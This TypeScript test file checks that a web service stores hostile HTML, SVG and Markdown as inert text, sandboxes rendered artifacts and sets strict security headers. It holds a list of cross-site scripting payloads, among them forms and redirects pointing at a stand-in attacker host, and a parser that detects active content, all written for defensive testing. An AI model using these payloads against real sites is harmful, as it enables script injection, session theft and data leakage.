import { expect } from 'chai';
import { Parser } from 'htmlparser2';
import { PlanFiles } from '../support/plan-files.ts';
import { TestService } from '../support/service.ts';

/** HTML, SVG and Markdown that is active if it is inserted unescaped. */
const attacks = [
  '<script>alert(1)</script>',
  '</title></style></textarea><script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'onmouseover='alert(1)",
  '<svg onload=alert(1)><script href="data:text/javascript,alert(1)"/><animate onbegin=alert(1)></svg>',
  '<a href="javascript:alert(1)">a</a> [b](javascript:alert(1)) <a href="&#106;avascript:alert(1)">c</a>',
  '<a href="java\nscript:alert(1)">d</a> [e](data:text/html,<script>alert(1)</script>) <a href="vbscript:x">f</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="x"></object><embed src="x">',
  '<form action="https://evil.example"><input name=key><button formaction="javascript:alert(1)">go</button></form>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example/x.css"</style>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<p style="background:url(https://evil.example)" onclick="alert(1)" class="badge done">x</p><!--><script>alert(1)</script>-->',
  '\u2028</script ><script\n>alert(1)</script\t>',
];
const attack = attacks.join('\n\n');

/** Elements that run, load, send or redirect something, whatever their attributes are. */
const acting = new Set([
  'script',
  'object',
  'embed',
  'base',
  'meta',
  'link',
  'frame',
  'frameset',
  'applet',
  'math',
  'animate',
  'portal',
]);

/** The active content of a page as a parser finds it, not text that resembles it. */
function powersOf(
  html: string,
  own: { readonly elements?: readonly string[]; readonly forms?: boolean } = {},
): string[] {
  const found: string[] = [];
  const parser = new Parser({
    onopentag: (name, attributes) => {
      const icon = name === 'link' && attributes['rel'] === 'icon' && !/^[a-z]+:\/\//i.test(attributes['href'] ?? '');
      const isMetadata = icon || (name === 'meta' && !('http-equiv' in attributes));
      if (acting.has(name) && !isMetadata && own.elements?.includes(name) !== true) found.push(name);
      if (name === 'iframe' && attributes['sandbox'] !== 'allow-scripts') found.push('iframe without a sandbox');
      if (['form', 'button', 'textarea'].includes(name) && own.forms !== true) found.push(name);
      if (name === 'style' && own.elements?.includes('style') !== true) found.push('style');
      for (const [attribute, value] of Object.entries(attributes)) {
        if (/^on/i.test(attribute) || ['srcdoc', 'formaction', 'style', 'http-equiv'].includes(attribute))
          found.push(attribute);
        // oxlint-disable-next-line no-control-regex
        const address = value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
        const leads = ['href', 'src', 'action', 'xlink:href', 'data', 'srcset', 'poster'].includes(attribute);
        if (leads && /^(javascript|vbscript|data:(?!image\/(png|jpeg|gif|webp|avif)[;,]))/.test(address))
          found.push(`${attribute}=${address.slice(0, 20)}`);
      }
    },
  });
  parser.end(html);
  return found;
}

/** The directives of a policy by name. */
function policyOf(response: Response): Map<string, string> {
  const directives = response.headers.get('content-security-policy')!.split(/; */);
  return new Map(directives.map((one) => [one.split(' ', 1)[0]!, one.slice(one.indexOf(' ') + 1)]));
}

describe('Hostile HTML', function () {
  this.timeout(30_000);
  let service: TestService;
  let project: string;

  before(async () => {
    service = await TestService.start();
    const { body } = await service.rest.post('/projects', { name: attacks[1]!, description: attack });
    project = body.id as string;
  });
  after(() => service.stop());

  const make = async (path: string, body: object): Promise<Record<string, string>> => {
    const answer = await service.rest.post(path, body);
    expect(answer.status, JSON.stringify(answer.body)).to.equal(201);
    return answer.body as Record<string, string>;
  };
  const page = async (path: string): Promise<[Response, string]> => {
    const response = await fetch(path.startsWith('http') ? path : service.url + path, {
      headers: { Accept: 'text/html' },
    });
    return [response, await response.text()];
  };

  it('would be found by this test if it were inserted unescaped', () => {
    for (const [i, one] of attacks.entries())
      // An attribute, and two that parsers read in two ways, are checked on the next line and by the pages themselves.
      if (![3, 11, 12].includes(i)) expect(powersOf(one), one).not.to.deep.equal([]);
    expect(powersOf(`<p title='${attacks[3]}'>`)).to.deep.equal(['onmouseover']);
  });

  it('in a comment is stored without active content, whichever way it was written [A.hostile.html, D7.comment-html, A.trust.html]', async () => {
    const task = await make(`/projects/${project}/tasks`, { label: 'x' });
    for (const one of [...attacks, attack]) {
      const { status, body } = await service.rest.post(`/tasks/${task['id']}/comments`, { body: `seen: ${one}` });
      expect(status, one).to.equal(201);
      expect(powersOf(body.body as string), one).to.deep.equal([]);
    }
    const files = await PlanFiles.of(service);
    const path = files.paths().find((one) => one.startsWith('comments/'))!;
    const record = JSON.parse(files.read(path)) as { id: string };
    files.write(path, JSON.stringify({ ...record, body: attack }));
    await service.store.rescan();
    const { body } = await service.rest.get(`/tasks/${task['id']}/comments`);
    const edited = (body.comments as { id: string; body: string }[]).find(({ id }) => id === record.id)!;
    expect(powersOf(edited.body)).to.deep.equal([]);
  });

  it('in any name or text is shown only as text on every page of the service [A.hostile.html, A.trust.html]', async () => {
    const task = await make(`/projects/${project}/tasks`, { label: attacks[1]!, description: attack });
    await make(`/projects/${project}/goals`, { name: attacks[2]!, objective: attack, status: 'active' });
    const document = await make(`/projects/${project}/documents`, {
      ...{ title: attacks[1]!, body: attack, status: attacks[2]!, link_to: task['id'] },
    });
    const prototype = await make(`/projects/${project}/prototypes`, {
      name: attacks[1]!,
      viewport: { width: 9, height: 9 },
    });
    const urls: string[] = [];
    for (const path of [`/tasks/${task['id']}`, `/documents/${document['id']}`, `/prototypes/${prototype['id']}`])
      urls.push((await make(`${path}/share`, {}))['url']!);
    const link = await make(`/projects/${project}/participant-links`, { audience_name: attacks[1]! });
    urls.push(link['url']!, `${link['url']!}?sent=1&cursor="><script>`);
    for (const url of urls) {
      const [response, html] = await page(url);
      expect(powersOf(html, { elements: ['style'], forms: url.includes('/p/') }), url).to.deep.equal([]);
      const policy = policyOf(response);
      expect(policy.get('default-src'), url).to.equal("'none'");
      expect([policy.has('script-src'), policy.get('base-uri'), policy.get('frame-ancestors')]).to.deep.equal([
        ...[false, "'none'", "'none'"],
      ]);
      expect(response.headers.get('x-content-type-options')).to.equal('nosniff');
    }
    // A guest's input is shown again in the form if it is rejected, and reaches the owner as text.
    const form = new URLSearchParams({ participant_name: attacks[2]!, title: '', body: attack });
    const refused = await fetch(link['url']!, { method: 'POST', body: form });
    expect(refused.status).to.equal(400);
    expect(powersOf(await refused.text(), { elements: ['style'], forms: true })).to.deep.equal([]);
  });

  it('in an artifact is rendered without access to this service: in a sandbox, or sanitised [A.hostile.html, D6.render, A.trust.html]', async () => {
    const html = await make(`/projects/${project}/artifacts`, { title: attacks[1]!, kind: 'html', content: attack });
    const markdown = await make(`/projects/${project}/artifacts`, {
      title: attacks[1]!,
      kind: 'markdown',
      content: attack,
    });
    for (const { id } of [html, markdown]) {
      const [response, text] = await page(`/api/v1/artifacts/${id}/render`);
      const policy = policyOf(response);
      expect(policy.get('sandbox')).to.equal('allow-scripts');
      expect(policy.get('default-src')).to.equal("'none'");
      expect([policy.get('form-action'), policy.get('base-uri')]).to.deep.equal(["'none'", "'none'"]);
      expect([...policy.values()].join(' ')).not.to.match(
        /https?:|\*|allow-same-origin|allow-top|allow-popups|allow-forms/,
      );
      expect(response.headers.get('x-content-type-options')).to.equal('nosniff');
      if (id === markdown['id']) expect(powersOf(text, { elements: ['style'] })).to.deep.equal([]);
    }
  });

  it('in a screen of a shared prototype has its own origin, on its page and in its frame [A.hostile.html, D8.mint]', async () => {
    const prototype = await make(`/projects/${project}/prototypes`, { name: 'P', viewport: { width: 9, height: 9 } });
    const content = `${attack}<iframe src="/api/v1/projects"></iframe>`;
    await make(`/projects/${project}/artifacts`, {
      title: attacks[1]!,
      kind: 'html',
      content,
      prototype_id: prototype['id'],
    });
    const { url } = await make(`/prototypes/${prototype['id']}/share`, {});
    const [, html] = await page(url!);
    expect(powersOf(html, { elements: ['style'] })).to.deep.equal([]);
    const [, screen = ''] = /<iframe src="([^"]+)"/.exec(html) ?? [];
    const [response] = await page(screen);
    const policy = policyOf(response);
    expect([response.status, policy.get('sandbox'), policy.get('default-src')]).to.deep.equal([
      200,
      'allow-scripts',
      "'none'",
    ]);
    expect([policy.get('form-action'), policy.has('connect-src'), policy.has('frame-src')]).to.deep.equal([
      "'none'",
      false,
      false,
    ]);
  });

  it('and SVG in a file run nothing when they are opened, whatever their type [A.hostile.html, D6.file-serving]', async () => {
    const types = [
      'image/svg+xml',
      'text/html',
      'application/xhtml+xml',
      'text/xml',
      'application/pdf',
      'text/javascript',
    ];
    types.push('image/png', 'multipart/x-mixed-replace', 'text/css', 'application/octet-stream', 'IMAGE/SVG+XML');
    for (const mime of types) {
      const bytes = Buffer.from(
        `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('${mime}')"><script>1</script></svg>`,
      );
      const upload = { filename: 'a.svg', mime, content_base64: bytes.toString('base64') };
      const { status, body } = await service.rest.post(`/projects/${project}/files`, upload);
      if (status !== 201) continue;
      const { headers } = await fetch(service.url + (body.url as string));
      expect(headers.get('content-security-policy'), mime)
        .to.match(/^sandbox; default-src 'none';/)
        .and.not.contain('allow-');
      expect(headers.get('x-content-type-options'), mime).to.equal('nosniff');
      expect(headers.get('cross-origin-resource-policy'), mime).to.equal('same-origin');
      expect(headers.get('content-disposition'), mime).to.match(
        /^image/i.test(mime) ? /^(inline|attachment);/ : /^attachment;/,
      );
    }
  });

  it("in an error's message is JSON to programs and text to people [A.hostile.html, D2.page]", async () => {
    for (const path of [
      '/none/<script>alert(1)</script>',
      '/api/v1/<script>',
      '/s/<script>alert(1)</script>',
      '/mcp/<svg>',
      '/s/x"><script>alert(1)</script>',
      '/p/x"><script>alert(1)</script>?cursor="><script>',
    ]) {
      const response = await fetch(service.url + path, { headers: { Accept: 'text/html' } });
      expect(response.status, path).to.be.below(500);
      const text = await response.text();
      if (response.headers.get('content-type')!.startsWith('text/html')) expect(text).not.to.match(/<script>|<svg>/);
      else expect(response.headers.get('content-type')).to.match(/^application\/json/);
      expect(response.headers.get('x-content-type-options'), path).to.equal('nosniff');
    }
  });
});
